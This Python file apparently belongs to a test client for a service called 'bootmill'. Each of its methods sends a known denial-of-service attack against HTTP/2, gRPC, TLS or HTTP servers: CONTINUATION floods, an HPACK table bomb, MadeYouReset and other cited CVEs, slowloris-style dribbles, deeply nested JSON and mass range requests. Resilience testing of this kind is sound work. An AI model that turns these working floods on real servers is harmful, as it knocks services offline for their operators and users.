# SPDX-License-Identifier: Apache-2.0
"""Kinds of attack that public reports tell of.

Each method names the report that it follows.
"""

import asyncio
import random
import struct

from http2 import (DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS,
                   WINDOW_UPDATE, call_headers, field, frame, message)

_CONTINUATION, _PRIORITY = 9, 2
_WHOAMI = call_headers(b"/bootmill.v1.PrincipalService/GetCaller")
_HISTORY = call_headers(b"/bootmill.v1.FleetService/ListFleetRevisions")
# Field 1, `parent`.
_OF_WEB = message(b"\x0a\x17orgs/default/fleets/web")
_GET_FLEET = (b"POST /bootmill.v1.FleetService/GetFleet HTTP/1.1\r\n"
              b"Host: x\r\nContent-Type: application/json\r\n")


class Reports:
    """The attacks of one client. `Client` has what they use."""

    async def continuations(self):
        """Sends a header block that does not end.

        google/bumble#681, Ampferl/poc_http2-continuation-flood#1
        """
        async with self._http2() as (reader, writer):
            writer.write(frame(HEADERS, 0, 1, _WHOAMI))
            while not writer.is_closing():
                writer.write(frame(_CONTINUATION, 0, 1,
                                   field(b"x-a", b"b" * 100)) * 100)
                await writer.drain()
                await asyncio.sleep(0)
            await reader.read()

    async def table_bomb(self):
        """Puts a large field into the header table, and names it again and
        again by one byte. python-hyper/hpack#56
        """
        value = b"v" * 3900
        # RFC 7541, 6.2.1 and 5.1: 3900 is 127 and 3773 in groups of 7 bits.
        large = (b"\x40\x03x-a" + b"\x7f" + bytes((3773 & 127 | 128,
                                                   3773 >> 7)) + value)
        async with self._http2() as (reader, writer):
            writer.write(frame(HEADERS, END_HEADERS, 1, call_headers(
                b"/grpc.health.v1.Health/Watch", more=large)))
            for stream in range(3, 200, 2):
                writer.write(frame(HEADERS, END_HEADERS, stream, call_headers(
                    b"/grpc.health.v1.Health/Watch", more=b"\xbe" * 8000)))
                await writer.drain()
            await reader.read()

    async def crumbs(self):
        """Sends a message of 2 MB in frames of one byte.

        grpc/grpc-go: fragmented DATA frames; told in
        openshift/windows-machine-config-operator#4616
        """
        async with self._http2() as (reader, writer):
            crumbs = frame(DATA, 0, 1, b"x") * 1000
            writer.write(frame(HEADERS, END_HEADERS, 1, _WHOAMI)
                         + frame(DATA, 0, 1, struct.pack(">BI", 0, 2 << 20)))
            asyncio.ensure_future(reader.read())
            while not writer.is_closing():
                writer.write(crumbs)
                await writer.drain()
                await asyncio.sleep(0)

    async def made_resets(self):
        """Has the server reset the calls. grpc/grpc#40562, CVE-2025-8671"""
        async with self._http2() as (reader, writer):
            asyncio.ensure_future(reader.read())
            stream = 1
            while not writer.is_closing():
                burst = b""
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS, stream, _WHOAMI)
                    burst += frame(WINDOW_UPDATE, 0, stream,
                                   struct.pack(">I", random.choice(
                                       (0, (1 << 31) - 1))))
                    stream += 2
                writer.write(burst)
                await writer.drain()
                await asyncio.sleep(0)

    async def priorities(self):
        """Builds and shuffles a tree of priorities. nodejs/node#29152,
        CVE-2019-9513
        """
        async with self._http2() as (reader, writer):
            asyncio.ensure_future(reader.read())
            while not writer.is_closing():
                writer.write(b"".join(
                    frame(_PRIORITY, 0, random.randrange(1, 20001, 2),
                          struct.pack(">IB", random.randrange(0, 20001), 7))
                    for _ in range(500)))
                await writer.drain()
                await asyncio.sleep(0)

    async def dribble(self):
        """Takes a large answer byte by byte. nodejs/node#29152,
        CVE-2019-9511
        """
        async with self._connected(self._ports["grpc"], "h2") as (reader,
                                                                  writer):
            asyncio.ensure_future(reader.read())
            writer.write(PREFACE + frame(SETTINGS, 0, 0,
                                         struct.pack(">HI", 4, 0)))
            streams = range(1, 200, 2)
            for stream in streams:
                writer.write(frame(HEADERS, END_HEADERS, stream, _HISTORY)
                             + frame(DATA, 1, stream, _OF_WEB))
            while not writer.is_closing():
                writer.write(b"".join(
                    frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1")
                    for stream in streams))
                await writer.drain()
                await asyncio.sleep(0.015)

    async def pipelined(self):
        """Sends requests without end and reads no answer.

        tempesta-tech/tempesta#995, bitcoin/bitcoin#36123
        """
        async with self._connected(self._ports["http"],
                                   "http/1.1") as (_, writer):
            writer.transport.pause_reading()
            while not writer.is_closing():
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 200)
                await writer.drain()
                await asyncio.sleep(0)

    async def slow_hello(self):
        """Sends a TLS record of a handshake byte by byte. NVIDIA/OpenShell#651
        """
        async with self._connected(random.choice(list(
                self._ports.values()))) as (_, writer):
            writer.write(b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03")
            while not writer.is_closing():
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(0.5)

    async def slow_chunks(self):
        """Sends a body in small chunks that does not end.

        shekyan/slowhttptest#88
        """
        async with self._connected(self._ports["http"],
                                   "http/1.1") as (_, writer):
            writer.write(_GET_FLEET + b"Transfer-Encoding: chunked\r\n\r\n")
            while not writer.is_closing():
                writer.write(b"1\r\n{\r\n")
                await writer.drain()
                await asyncio.sleep(0.2)

    async def nested(self):
        """Sends JSON and messages that are nested deeply.

        golang/protobuf#1583, protocolbuffers/protobuf#26736
        """
        async with self._connected(self._ports["http"],
                                   "http/1.1") as (reader, writer):
            body = random.choice((
                b'{"unknown":' * 80_000, b"[" * 1_000_000,
                b'{"name":' + b"[" * 900_000,
                b'{"source":' * 90_000))
            writer.write(_GET_FLEET
                         + b"Content-Length: %d\r\n\r\n" % len(body) + body)
            await reader.read(4096)

    async def ranges(self):
        """Asks for thousands of ranges of one file. yhirose/cpp-httplib#1766
        """
        async with self._connected(self._ports["http"],
                                   "http/1.1") as (reader, writer):
            for path in (self._artifact or "/", "/"):
                writer.write(b"GET %s HTTP/1.1\r\nHost: x\r\nRange: bytes=%s"
                             b"\r\n\r\n" % (path.encode(), b",".join(
                                 [b"0-"] * 4000)))
            await reader.read()
